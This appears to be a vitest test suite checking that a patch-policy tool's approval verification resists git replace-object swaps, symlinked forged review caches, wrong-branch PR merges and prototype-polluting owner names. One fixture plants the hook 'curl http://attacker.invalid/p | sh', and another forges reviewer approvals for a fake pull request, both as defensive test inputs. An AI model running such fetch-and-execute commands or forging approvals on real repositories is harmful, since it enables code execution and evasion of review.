// Git evidence hygiene (second review L2, L3, L4, L8, L11): what verification reads is what git holds for everyone.
import { mkdir, readFile, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { updateDoc } from "../helpers/documents.js";
import type { FakeGithub } from "../helpers/github-server.js";
import { commitAll, tempDir } from "../helpers/repo.js";
import {
  approvals,
  base,
  change,
  git,
  installed,
  makeTemplate,
  ok,
  plan,
  pr,
  type Template,
  withFakeGithub,
} from "./trust-fixture.js";

let gh: FakeGithub;
let template: Template;
withFakeGithub("ghs_evidencetoken", (started) => (gh = started));
beforeAll(async () => {
  template = await makeTemplate();
});
beforeEach(() => {
  gh.pulls.length = 0;
});

describe("git replace objects are never honoured (L3)", () => {
  it("a refs/replace swap of the reviewed policy.yaml blob puts no hook in any job", async () => {
    const { repo } = await base(gh, template);
    const reviewed = git(repo, "rev-parse", "HEAD:policies/policy.yaml");
    const text = await readFile(join(repo, "policies/policy.yaml"), "utf8");
    await writeFile(
      join(repo, "evil.yaml"),
      `${text}  hooks:\n    pre: [{ name: x, run: "curl http://attacker.invalid/p | sh" }]\n`,
    );
    const evil = git(repo, "hash-object", "-w", "evil.yaml");
    git(repo, "replace", reviewed, evil);
    // Plain git now shows the swapped content: the attack is live in this checkout.
    expect(git(repo, "show", "HEAD:policies/policy.yaml")).toContain("attacker.invalid");

    const r = await plan(repo);
    expect(JSON.stringify(r.jobs)).not.toContain("attacker.invalid");
    expect(installed(r.jobs)).toEqual(["KB100"]);
    expect(r.plan.approvalVerification).toBe("verified");
    expect(r.code).toBe(0);
  });
});

describe("the review cache (L2, L11)", () => {
  it("a committed cache reached through a symbolic link is refused: a forged PR #4242 verifies nothing", async () => {
    const { repo } = await base(gh, template);
    const direct = await change(repo, { "policies/updates/kb101.yaml": updateDoc("KB101") }, "Mallory <m@example.com>");
    const forged = {
      version: 2,
      repository: "acme/patch-policy",
      commits: {
        [direct]: [
          {
            number: 4242,
            title: "forged",
            author: "dave",
            mergedAt: "2026-11-23T18:00:00Z",
            baseRef: "main",
            url: "https://github.com/acme/patch-policy/pull/4242",
            headSha: direct,
            reviews: ["alice", "bob"].map((login, i) => ({
              id: i + 1,
              login,
              state: "APPROVED",
              submittedAt: "2026-11-23T17:00:00Z",
              commitId: direct,
            })),
            commits: [{ sha: direct, author: "dave", committer: "dave" }],
          },
        ],
      },
    };
    await mkdir(join(repo, ".patchops-cache/acme/patch-policy"), { recursive: true });
    await writeFile(join(repo, ".patchops-cache/acme/patch-policy/reviews.json"), JSON.stringify(forged));
    git(repo, "add", "-f", ".patchops-cache");
    commitAll(repo, "cache");
    const link = join(await tempDir(), "cachelink");
    await symlink(join(repo, ".patchops-cache"), link);

    const a = await approvals(repo, "--cache-dir", link);
    expect(a.stderr).toContain("refusing the review cache");
    expect(a.stdout).not.toContain("4242");
    expect(a.stdout).toMatch(/✗ update +KB101 +UNVERIFIED: commit [0-9a-f]{12} is in no merged pull request/);
    expect(a.code).toBe(1);
  });

  it("a cache folder that cannot be written is a warning, and the plan is still written", async () => {
    const { repo } = await base(gh, template);
    const file = join(await tempDir(), "a-file");
    await writeFile(file, "not a folder\n");
    const r = await plan(repo, "--cache-dir", join(file, "cache"));
    expect(r.code).toBe(0);
    expect(r.plan.approvalVerification).toBe("verified");
    expect(installed(r.jobs)).toEqual(["KB100"]);
    expect(r.stderr).toMatch(/the review cache .*a-file\/cache.* cannot be written \(ENOTDIR\); going on without it/);
  });
});

describe("a pull request counts only when merged into the protected branch (L4)", () => {
  it("a PR into sandbox holding a commit pushed straight to main verifies nothing", async () => {
    const { repo } = await base(gh, template);
    const direct = await change(repo, { "policies/updates/kb300.yaml": updateDoc("KB300") }, "Mallory <m@example.com>");
    gh.pulls.push({ ...pr(60, [direct], [ok("alice"), ok("bob")]), baseRef: "sandbox" });
    const r = await plan(repo);
    expect(installed(r.jobs)).toEqual(["KB100"]);
    expect(r.plan.findings).toContainEqual(
      expect.objectContaining({
        code: "approval-unverified",
        message: expect.stringContaining("PR #60 was merged into sandbox, not main: its reviews do not count here"),
      }),
    );
    // The same pull request into main counts; and --protected-branch names another protected branch.
    gh.pulls.length = 0;
    await base(gh, template);
    gh.pulls.push(pr(60, [direct], [ok("alice"), ok("bob")]));
    expect(installed((await plan(repo)).jobs)).toEqual(["KB100", "KB300"]);
    expect(installed((await plan(repo, "--protected-branch", "release")).jobs)).toEqual([]);
  });
});

describe("owner names are names, not object properties (L8)", () => {
  it.each(["constructor", "__proto__", "toString"])(
    "owner %s has no team: a clear verdict, never a crash",
    async (owner) => {
      const { repo } = await base(gh, template);
      const text = await readFile(join(repo, "windows/assignments/team-a.yaml"), "utf8");
      const c = await change(repo, {
        "windows/assignments/team-a.yaml": text.replace("owner: team-a", `owner: "${owner}"`),
      });
      gh.pulls.push(pr(5, [c], [ok("tina"), ok("alice"), ok("bob")]));
      const a = await approvals(repo);
      expect(a.stdout).toContain(
        `owner team '${owner}' has no members in cab.yaml teams, so its approval cannot be checked`,
      );
      expect(a.stdout + a.stderr).not.toContain("is not a function");
      expect(a.code).toBe(1);
    },
  );
});
